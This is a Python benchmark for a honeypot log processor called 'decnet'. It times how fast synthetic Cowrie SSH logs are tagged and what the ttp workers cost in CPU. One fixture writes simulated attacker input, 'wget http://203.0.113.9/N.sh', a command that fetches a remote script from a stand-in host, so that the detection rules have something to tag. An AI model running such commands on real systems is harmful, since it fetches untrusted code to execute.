"""A burst through the bus: ``decnet serve`` on one host, and what several ttp workers cost on several.

Lines per second from the log to stored tags and findings, through the journal, the CPU time that they cost in each
process, and how soon the tag of a single line is there; CPU time per event of one, two and four ttp workers on
JetStream and MariaDB. ``python -m bench.serve [LINES]`` prints the figures.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import time
from contextlib import ExitStack, closing
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

from bench.cowrie_log import lines
from decnet.bus.nats import connect_nats
from decnet.db.engine import open_database, upgrade_database
from decnet.db.outbox import backlog
from tests.databases import empty_server_database
from tests.servers import own_server

if TYPE_CHECKING:
    from sqlalchemy.engine import Connection

LINES = 100_000
DIVIDED_LINES = 30_000
WORKERS = (1, 2, 4)
RUNS = 3
LOOK_S = 0.1
SINGLE_LINES = 20
SINGLE_LOOK_S = 0.002
SINGLE_PATIENCE_S = 10.0
IDLE_SHARE = 0.1
"""Of a processor's time: below, what a first start does, in the background too, is done."""
_OLDEST_UNREAD = """
SELECT min(created_at) FROM outbox JOIN bus_position AS place ON place."partition" = outbox."partition"
WHERE place.consumer = ? AND outbox.topic IN ('events', ?) AND outbox.id > place.position"""
_READ = {"ttp": "attacker.session.ended", "attribute": "events"}
"""What each durable reads beside events."""


class Figures(NamedTuple):
    """What one run told: lines per second, CPU seconds by process, and by how much each durable lagged.

    ``first_tag_s`` is how long after a single line was written its tag was there, for each of some.
    """

    rate: float
    cpu_s: dict[str, float]
    ttp_behind_s: float
    attribute_behind_s: float
    tags: int
    first_tag_s: list[float]


def main(count: int = LINES) -> None:
    """Print the figures for a burst of ``count`` lines."""
    _serve(count)
    _divided()


def _serve(count: int) -> None:
    with tempfile.TemporaryDirectory() as folder:
        burst = list(lines(count))
        runs = [_embedded(Path(folder) / str(number), burst) for number in range(RUNS)]
    print(f"decnet serve, {count:,} lines of a synthetic Cowrie log at once, empty SQLite, {runs[0].tags:,} tags")
    print(f"  lines per second      {_spread([run.rate for run in runs])}, until all is tagged and attributed")
    print(f"  lines per CPU second  {_spread([count / sum(run.cpu_s.values()) for run in runs])}")
    middle = sorted(runs, key=lambda run: sum(run.cpu_s.values()))[len(runs) // 2]
    each = ", ".join(f"{name} {seconds * 1_000 / count:.3f}" for name, seconds in middle.cpu_s.items())
    print(f"  CPU s per 1,000 lines {sum(middle.cpu_s.values()) * 1_000 / count:.3f}: {each}")
    print(
        f"  longest wait          {max(run.ttp_behind_s for run in runs):.1f} s for ttp, "
        f"{max(run.attribute_behind_s for run in runs):.1f} s for attribute"
    )
    first = sorted(seconds * 1_000 for run in runs for seconds in run.first_tag_s)
    print(
        f"  tag of a single line  median {statistics.median(first):.0f} ms, "
        f"95 of 100 within {first[int(0.95 * (len(first) - 1))]:.0f} ms, {len(first)} lines"
    )


def _spread(figures: list[float]) -> str:
    return f"median {statistics.median(figures):,.0f} (min {min(figures):,.0f}, max {max(figures):,.0f}, {RUNS} runs)"


def _embedded(folder: Path, burst: list[str]) -> Figures:
    """What a serve of its own in ``folder`` does with the lines ``burst``, then with single ones."""
    folder.mkdir()
    log = folder / "cowrie.json"
    log.touch()
    environment = os.environ | {"DECNET_DATA_DIR": str(folder)}
    command = [sys.executable, "-m", "decnet", "serve", str(log), "--no-web", "--json"]
    with subprocess.Popen(command, env=environment, stdout=subprocess.PIPE) as serving:
        if serving.stdout is not None:
            serving.stdout.readline()  # all are at work now
        _wait_until_idle(serving.pid)
        written = "\n".join(burst) + "\n"
        log.write_text(written)
        begun, before = time.monotonic(), _cpu_by_process(serving.pid)
        waits = _followed(folder / "decnet.sqlite", len(written))
        seconds, after = time.monotonic() - begun, _cpu_by_process(serving.pid)
        _wait_until_idle(serving.pid)
        with closing(sqlite3.connect(f"file:{folder / 'decnet.sqlite'}?mode=ro", uri=True, timeout=5)) as database:
            (tags,) = database.execute("SELECT count(*) FROM tag").fetchone()
            first_tags = [_first_tag(database, log, number) for number in range(SINGLE_LINES)]
        serving.send_signal(signal.SIGTERM)
    used = {name: after[name] - before[name] for name in after}
    return Figures(len(burst) / seconds, used, *waits, tags, first_tags)


def _first_tag(database: sqlite3.Connection, log: Path, number: int) -> float:
    """Seconds from the writing of a line that tells of a download to its tag."""
    line = {
        "eventid": "cowrie.command.input",
        "timestamp": f"2026-12-01T00:00:{number:02}.000000Z",
        "input": f"wget http://203.0.113.9/{number}.sh",
        "session": f"{number:012x}",
        "src_ip": f"192.0.2.{number + 20}",
        "sensor": "svr04",
        "protocol": "ssh",
    }
    (known,) = database.execute("SELECT count(*) FROM tag").fetchone()
    begun = time.monotonic()
    with log.open("a") as growing:
        growing.write(json.dumps(line) + "\n")
    while database.execute("SELECT count(*) FROM tag").fetchone()[0] == known:
        if time.monotonic() > begun + SINGLE_PATIENCE_S:
            raise TimeoutError(f"a line has no tag after {SINGLE_PATIENCE_S:g} s; do the rules know wget?")
        time.sleep(SINGLE_LOOK_S)
    waited = time.monotonic() - begun
    time.sleep(LOOK_S)  # whatever else follows of it
    return waited


def _followed(path: Path, size: int) -> tuple[float, float]:
    """How long, at most, messages waited for the durables ``ttp`` and ``attribute``, until all were handled."""
    longest = [0.0, 0.0]
    with closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)) as database:
        while True:
            read = database.execute("SELECT max(end_offset) FROM log_position").fetchone()[0] or 0
            oldest = [database.execute(_OLDEST_UNREAD, each).fetchone()[0] for each in _READ.items()]
            now = time.time_ns() // 1_000
            for number, at in enumerate(oldest):
                longest[number] = max(longest[number], (now - at) / 1e6 if at else 0.0)
            if read >= size and not any(oldest):
                return longest[0], longest[1]
            time.sleep(LOOK_S)


def _divided() -> None:
    with tempfile.TemporaryDirectory() as folder:
        log = Path(folder) / "cowrie.json"
        log.write_text("\n".join(lines(DIVIDED_LINES)) + "\n")
        costs = {number: _cost_of(number, log, Path(folder) / str(number)) for number in WORKERS}
    print(f"ttp workers on JetStream and MariaDB, {DIVIDED_LINES:,} events")
    for number, cost in costs.items():
        share = f", {cost / costs[1]:.2f} x that of one" if number > 1 else ""
        print(f"  {number} at work             {cost * 1e6:,.0f} µs of CPU per event{share}")


def _cost_of(number: int, log: Path, folder: Path) -> float:
    """CPU seconds per event of ``number`` ttp workers together."""
    folder.mkdir()
    with own_server("nats") as nats, empty_server_database("mariadb") as url, ExitStack() as running:
        upgrade_database(url)
        environment = os.environ | {
            "DECNET_DATA_DIR": str(folder),
            "DECNET_DB_URL": url,
            "DECNET_BUS_URL": nats.url,
            "DECNET_TTP_RULE_STORE_TYPE": "database",
        }

        def start(*names: str) -> subprocess.Popen[bytes]:
            command = [sys.executable, "-m", "decnet", "worker", *names, "--json"]
            process = subprocess.Popen(command, env=environment, stdout=subprocess.PIPE)
            running.callback(process.wait)
            running.callback(process.terminate)
            if process.stdout is not None:
                process.stdout.readline()
            return process

        workers = [start("ttp") for _ in range(number)]
        for worker in workers:
            _wait_until_idle(worker.pid)
        before = [_cpu_of(worker.pid) for worker in workers]
        start("relay")
        start("intake", str(log))
        asyncio.run(_until_tagged(nats.url, url))
        used = sum(_cpu_of(worker.pid) - begun for worker, begun in zip(workers, before, strict=True))
    return used / DIVIDED_LINES


async def _until_tagged(bus_url: str, database_url: str) -> None:
    """Return when every event is stored, announced and acknowledged by the ttp workers."""
    bus, database = await connect_nats(bus_url), open_database(database_url)
    try:
        while database.read(_waiting) or (await bus.lag("ttp")).messages:  # noqa: ASYNC110 - the servers know
            await asyncio.sleep(LOOK_S)
    finally:
        await bus.close()
        database.close()


def _waiting(connection: Connection) -> bool:
    """Whether there are events that are not stored, or not announced."""
    stored = connection.exec_driver_sql("SELECT count(*) FROM event").scalar_one()
    return int(stored) < DIVIDED_LINES or bool(backlog(connection)[0])


def _wait_until_idle(process: int) -> None:
    used, now = 0.0, time.monotonic()
    while True:
        time.sleep(1)
        last, used, before, now = used, _cpu_of(process), now, time.monotonic()
        if last and used - last < IDLE_SHARE * (now - before):
            return


def _cpu_of(process: int) -> float:
    """CPU seconds of a process and its children so far."""
    return sum(_cpu_by_process(process).values())


def _cpu_by_process(process: int) -> dict[str, float]:
    """CPU seconds of ``process``, under ``serve``, and of each of its children, under the name of its worker.

    See proc(5): utime and stime are fields 14 and 15.
    """
    children = Path(f"/proc/{process}/task/{process}/children").read_text("ascii").split()
    seconds: dict[str, float] = {}
    for each in (str(process), *children):
        words = Path(f"/proc/{each}/cmdline").read_bytes().decode().split("\0")
        name = words[words.index("worker") + 1] if "worker" in words else "serve"
        fields = Path(f"/proc/{each}/stat").read_text("ascii").rpartition(")")[2].split()
        seconds[name] = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    return seconds


if __name__ == "__main__":
    main(*map(int, sys.argv[1:]))
